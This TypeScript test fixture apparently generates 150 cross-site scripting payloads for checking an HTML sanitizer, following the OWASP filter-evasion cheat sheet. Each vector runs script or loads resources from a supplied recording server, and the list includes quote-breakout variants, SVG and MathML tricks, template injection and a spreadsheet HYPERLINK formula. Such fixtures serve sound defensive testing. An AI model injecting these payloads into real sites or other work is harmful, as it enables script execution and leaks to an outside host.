/**
 * 150 texts that would become script, or a request to another host, if rendered as HTML: each known element, attribute, and scheme (after
 * the OWASP cheat sheet on filter evasion), alone and breaking out of both kinds of quotes.
 */

/** `elsewhere` is the address of a server that records its requests. */
export function payloads(elsewhere: string): string[] {
  const run = `fetch('${elsewhere}/ran');window.hacked=1`;
  const vectors = [
    `<script>${run}</script>`,
    `<script src="${elsewhere}/a.js"></script>`,
    `<ScRiPt>${run}</sCrIpT>`,
    `<scr<script>ipt>${run}</scr</script>ipt>`,
    `<img src=x onerror="${run}">`,
    `<img src="${elsewhere}/pixel.png">`,
    `<img srcset="${elsewhere}/wide.png 2x">`,
    `<img src="javascript:${run}">`,
    `<image href="${elsewhere}/i.png">`,
    `<svg onload="${run}">`,
    `<svg><script>${run}</script></svg>`,
    `<svg><animate onbegin="${run}" attributeName=x dur=1s>`,
    `<svg><use href="${elsewhere}/s.svg#a"/></svg>`,
    `<svg><foreignObject><iframe src="javascript:${run}"></iframe></foreignObject></svg>`,
    `<math><mtext><style><img src=x onerror="${run}"></style></mtext></math>`,
    `<iframe src="javascript:${run}"></iframe>`,
    `<iframe srcdoc="<script>${run}</script>"></iframe>`,
    `<iframe src="${elsewhere}/frame"></iframe>`,
    `<object data="javascript:${run}"></object>`,
    `<object data="${elsewhere}/o"></object>`,
    `<embed src="${elsewhere}/e">`,
    `<video src="${elsewhere}/v" autoplay onloadstart="${run}"></video>`,
    `<audio src="${elsewhere}/s" autoplay></audio>`,
    `<body onload="${run}">`,
    `<details open ontoggle="${run}">`,
    `<input autofocus onfocus="${run}">`,
    `<marquee onstart="${run}">x</marquee>`,
    `<a href="javascript:${run}" autofocus onfocus="${run}">x</a>`,
    `<base href="${elsewhere}/"><img src="b.png">`,
    `<link rel="stylesheet" href="${elsewhere}/c.css">`,
    `<link rel="preconnect" href="${elsewhere}">`,
    `<meta http-equiv="refresh" content="0;url=${elsewhere}/refresh">`,
    `<style>@import url("${elsewhere}/i.css"); body { background: url("${elsewhere}/bg.png") }</style>`,
    `<div style="background:url('${elsewhere}/d.png')">x</div>`,
    `<table background="${elsewhere}/t.png"><tr><td>x</td></tr></table>`,
    `<form action="${elsewhere}/f" id="f"><button formaction="javascript:${run}">x</button></form>`,
    `<template shadowrootmode="open"><img src=x onerror="${run}"></template>`,
    `<noscript><p title="</noscript><img src=x onerror='${run}'>"></noscript>`,
    `<!--><img src=x onerror="${run}">-->`,
    `<![CDATA[><img src=x onerror="${run}">]]>`,
    `&lt;img src=x onerror=&quot;${run}&quot;&gt;`,
    `&#60;script&#62;${run}&#60;/script&#62;`,
    `javascript:${run}`,
    `data:text/html,<script>${run}</script>`,
    `{{constructor.constructor("${run}")()}}`,
    `\${${run}}`,
    `\\u003cimg src=x onerror=${run}\\u003e`,
    `</title></textarea></style><img src=x onerror="${run}">`,
    `]]></script><script>${run}</script>`,
    `=HYPERLINK("${elsewhere}/cell";"x")`,
  ];
  return vectors.flatMap((one) => [one, `">${one}`, `'>${one}`]);
}
